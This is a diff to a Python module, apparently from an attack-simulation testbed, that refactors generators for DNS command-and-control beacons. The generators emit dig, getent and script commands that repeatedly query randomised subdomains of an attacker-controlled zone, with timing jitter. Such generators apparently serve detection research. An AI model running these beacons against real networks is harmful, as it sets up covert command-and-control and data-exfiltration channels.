@@ -1,7 +1,7 @@
 """Implants that call home again and again: periods, jitter, protocols, payloads and user agents are drawn."""
 
-from testbed.attacks.material import (INSIDE, drop, blob, listening, maybe, program, repeat, text, user_agent, words,
-                                      zone_server)
+from testbed.attacks.material import (INSIDE, blob, drop, listening, maybe, program, repeat, serving, text, user_agent, words,
+                                      zone)
 from testbed.attacks.tunnels import through_names
 from testbed.catalogue import Assault, attack
 
@@ -101,34 +101,35 @@ def bare(c, end, send: str) -> Assault:
                           period, jitter), **end.assault)
 
 
-def beacon_zone(c) -> tuple[str, dict, str]:
-    zone = c.choose(*c.conventions.zones)
-    return (zone, *zone_server(c, program("zone.py", "--zone", zone, "--seed", c.between(1, 10**6))))
-
-
-@attack("c2_beacon_dns", technique=DNS, tool="dig", origins=INSIDE, needs=("dns",), packages=("bind9-dnsutils",), seconds=170)
+@attack("c2_beacon_dns", technique=DNS, tool="dig", origins=INSIDE, needs=("dns", "outside:zones"),
+        packages=("bind9-dnsutils",), seconds=170)
 def dig_beacon(c):
-    (zone, fields, ready), (seconds, period, jitter) = beacon_zone(c), rhythm(c)
-    name = c.choose(f"$(head -c {c.between(4, 20)} /dev/urandom | od -An -tx1 | tr -d ' \\n')",
-                    f"{c.between(1, 10**9):x}.$RANDOM", f"$(date +%s).{c.between(1, 10**6):x}")
+    first = c.choose(f"$(head -c {c.between(4, 20)} /dev/urandom | od -An -tx1 | tr -d ' \\n')",
+                     f"{c.between(1, 10**9):x}.$RANDOM", f"$(date +%s).{c.between(1, 10**6):x}")
     kind = c.choose("TXT", "A", "AAAA", "CNAME", "MX")
-    return Assault(ready + repeat(c, seconds, f"dig +tries=1 +time=2 +short {kind} {name}.{zone}", period, jitter),
-                   evidence=through_names(c, zone), variant=kind, **fields)
+    return calling(c, lambda name: f"dig +tries=1 +time=2 +short {kind} {first}.{name}")
 
 
-@attack("c2_beacon_dns", technique=DNS, tool="getent", origins=INSIDE, needs=("dns",), packages=("libc-bin",), seconds=170)
+@attack("c2_beacon_dns", technique=DNS, tool="getent", origins=INSIDE, needs=("dns", "outside:zones"), packages=("libc-bin",),
+        seconds=170)
 def getent_beacon(c):
-    (zone, fields, ready), (seconds, period, jitter) = beacon_zone(c), rhythm(c)
-    return Assault(ready + repeat(c, seconds, f"getent ahostsv4 {c.between(1, 10**9):x}-$RANDOM.{zone}", period, jitter),
-                   evidence=through_names(c, zone), **fields)
+    return calling(c, lambda name: f"getent ahostsv4 {c.between(1, 10**9):x}-$RANDOM.{name}")
 
 
-@attack("c2_beacon_dns", technique=DNS, tool="names.py", origins=INSIDE, needs=("dns",), packages=("python3",), seconds=170)
+@attack("c2_beacon_dns", technique=DNS, tool="names.py", origins=INSIDE, needs=("dns", "outside:zones"), packages=("python3",),
+        seconds=170)
 def names_beacon(c):
-    (zone, fields, ready), (seconds, period, jitter) = beacon_zone(c), rhythm(c)
-    send = program("names.py", "--zone", zone, "--server", c.network.resolver, "--bytes", c.between(8, 40), "--label",
-                   c.between(16, 40), "--labels", 1, "--type", c.choose("TXT", "A", "NULL", "MX"), "--seed", "$RANDOM")
-    return Assault(ready + repeat(c, seconds, send, period, jitter), evidence=through_names(c, zone), **fields)
+    return calling(c, lambda name: program(
+        "names.py", "--zone", name, "--server", c.network.resolver, "--bytes", c.between(8, 40), "--label", c.between(16, 40),
+        "--labels 1", "--type", c.choose("TXT", "A", "NULL", "MX"), "--seed $RANDOM"))
+
+
+def calling(c, command) -> Assault:
+    """Asks for names of a zone of the attacker's again and again; `command` makes one call of the zone."""
+    (seconds, period, jitter), (name, port) = rhythm(c), zone(c)
+    server = program("zone.py", "--zone", name, "--port", port, "--seed", c.between(1, 10**6))
+    return Assault(repeat(c, seconds, command(name), period, jitter), evidence=through_names(name),
+                   **serving(name, port, server, c))
 
 
 @attack("cryptomine_stratum", technique="T1496", tool="stratum.py", origins=INSIDE, packages=("python3",), seconds=170)
